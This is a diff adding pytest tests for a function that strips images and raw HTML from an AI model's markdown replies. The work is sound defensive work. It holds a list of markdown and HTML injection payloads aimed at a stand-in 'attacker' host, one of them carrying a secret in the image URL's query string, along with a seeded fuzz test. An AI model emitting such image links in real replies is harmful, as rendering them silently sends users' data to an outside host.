@@ -3,12 +3,13 @@
 from __future__ import annotations
 
 import html
+import random
 import re
 
 import pytest
 from markdown_it import MarkdownIt
 
-from backend.text_safety import plain_markdown, plain_markdown_lines, plotly_text
+from backend.text_safety import plain_markdown, plain_markdown_lines, plotly_text, reply_markdown
 
 PAYLOADS = [
     "![x](http://evil/a.png)",
@@ -115,3 +116,120 @@ def test_plain_markdown_lines_keeps_each_line_and_no_line_starts_a_block():
         "<p>Hello ![x](http:\u200b//evil/a.png)<br />\n# head<br />\n- item<br />\n"
         "\u00a0\u00a0\u00a0\u00a0code<br />\n&gt; quote</p>\n<p>new paragraph</p>\n"
     )
+
+
+def _tokens(source: str) -> list:
+    parser = MarkdownIt("commonmark", {"html": True}).enable("table").enable("strikethrough")
+    tokens = []
+    for token in parser.parse(source):
+        tokens.append(token)
+        tokens.extend(token.children or [])
+    return tokens
+
+
+# Ways a model's reply could show an image or raw HTML, the code-shaped ones included: a fence or
+# span this module wrongly took for code would let what is inside through.
+REPLY_ATTACKS = [
+    "Sure! ![](http://attacker/?q=secret)",
+    "![a][ref]\n\n[ref]: http://attacker/x.png",
+    "![shortcut]\n\n[shortcut]: http://attacker/x.png",
+    "[![inner](http://attacker/i.png)](http://site)",
+    "\\\\![double backslash](http://attacker/a.png)",
+    "<img src=http://attacker/a.png>",
+    "<div>\n<img src=x>\n</div>",
+    "- item\n\n  ```\n![fence ended by the list](http://attacker/a.png)\n  ```",
+    "> ```\n\n![fence ended by the quote](http://attacker/a.png)\n```",
+    "| a | b |\n| - | - |\n| `x | ![cell](http://attacker/a.png) | y` | z |",
+    "`a ``b` ![between](http://attacker/a.png) ``",
+    "<a href='`'>![x](http://attacker/a.png)`</a>",
+    "~~~\n~~~~\n![x](http://attacker/a.png)",
+    # Found by the random test below: backticks the parser pairs across lines, a code span opened
+    # inside a table row, a tilde fence or table header read differently, a fence ended early.
+    "\\|<!-- c -->``!   ```\n  ```<img src=x>   ```",
+    "|[!```|[-     ```<!-- c -->```text",
+    "~~~- | a | b |\n| - | - |\n~~~\n\n<!-- c -->",
+    "  ```\ncode\n  ```\n<img src=x>",
+    "[a](/u`) ![x](http://attacker/a.png) `",
+]
+# Replies that show no image as they are, and must not be turned into one (an escape undone, code
+# taken for prose or prose for code).
+SAFE_LOOKALIKES = [
+    "\\![escaped bang](http://attacker/a.png)",
+    "<http://attacker/autolink>",
+    "```\nnever closed\n![x](http://attacker/a.png)",
+    "\\`` ![x](http://attacker/a.png) `",
+]
+
+
+_LIVE = {"image", "html_inline", "html_block"}
+
+
+@pytest.mark.parametrize("reply", REPLY_ATTACKS + SAFE_LOOKALIKES)
+def test_reply_markdown_shows_no_image_and_no_raw_html(reply):
+    assert not {token.type for token in _tokens(reply_markdown(reply))} & _LIVE
+
+
+@pytest.mark.parametrize("reply", REPLY_ATTACKS)
+def test_each_attack_is_live_without_reply_markdown(reply):
+    # So the test above would catch a reply_markdown that did nothing.
+    assert {token.type for token in _tokens(reply)} & _LIVE
+
+
+def test_reply_markdown_keeps_the_models_formatting_and_its_code_as_written():
+    reply = (
+        "## Steps\n\n1. **Bold** and _it_\n2. a [link](https://example.com)\n\n"
+        "| x | y |\n| - | - |\n| 1 | 2 |\n\n"
+        "```python\nif a < b and not x![0]:\n    print('<b>')\n```\n\nUse `a < b` and `![x](y)` literally."
+    )
+    shown = reply_markdown(reply)
+    # Nothing outside code needed changing; in inline code an invisible word joiner stops "<" and "![".
+    assert shown == reply.replace("`a < b`", "`a <\u2060 b`").replace("`![x](y)`", "`!\u2060[x](y)`")
+    rendered = _render(shown)
+    for tag in ("<h2>", "<ol>", "<strong>", "<em>", '<a href="https://example.com">', "<table>"):
+        assert tag in rendered
+    assert "if a &lt; b and not x![0]:\n    print('&lt;b&gt;')" in rendered
+    assert "<code>!\u2060[x](y)</code>" in rendered
+
+
+def test_reply_markdown_shows_the_neutralised_parts_as_their_text():
+    rendered = _render(reply_markdown("Look ![cat](http://x/c.png) and 1 < 2 <b>bold</b>"))
+    assert '<a href="http://x/c.png">cat</a>' in rendered  # a link fetches nothing until clicked
+    assert html.unescape(re.sub(r"<a [^>]*>|</a>", "", rendered)) == "<p>Look !cat and 1 < 2 <b>bold</b></p>\n"
+
+
+_PIECES = ["```", "~~~", "  ```", "    ```", "`", "``", "\\", "\\`", "![a](http://e/x)", "![b]", "[b]: http://e/y"]
+_PIECES += [
+    "<img src=x>",
+    "<",
+    "!",
+    "[",
+    "](http://e)",
+    "- ",
+    "> ",
+    "1. ",
+    "\n",
+    "\n\n",
+    "  ",
+    "|",
+    "| a | b |\n| - | - |\n",
+]
+_PIECES += ["text", "\t", "<!-- c -->", "&", "#", "***", "[a](/u", ")", "'", "<http://e>", "*", "code\n"]
+
+
+def test_random_mixtures_of_markdown_pieces_never_show_an_image_or_html():
+    # Seeded, so a failure names a reply to add to REPLY_ATTACKS; 210,000 draws passed once.
+    draw = random.Random(20261207)
+    for _ in range(3000):
+        reply = "".join(draw.choice(_PIECES) for _ in range(draw.randint(1, 16)))
+        assert not {token.type for token in _tokens(reply_markdown(reply))} & _LIVE, reply
+
+
+def test_a_streamed_code_block_not_yet_closed_is_kept_as_written():
+    partial = "Here:\n\n```html\n<b>if a < b</b>\n![x](y)"
+    assert reply_markdown(partial) == partial
+    assert "&lt;b&gt;if a &lt; b&lt;/b&gt;\n![x](y)" in _render(partial)
+
+
+def test_reply_markdown_keeps_lines_and_empty_replies():
+    assert reply_markdown("") == ""
+    assert reply_markdown("a\r\n\r\n```\n```\n\n```\nb\n```") == "a\n\n```\n```\n\n```\nb\n```"
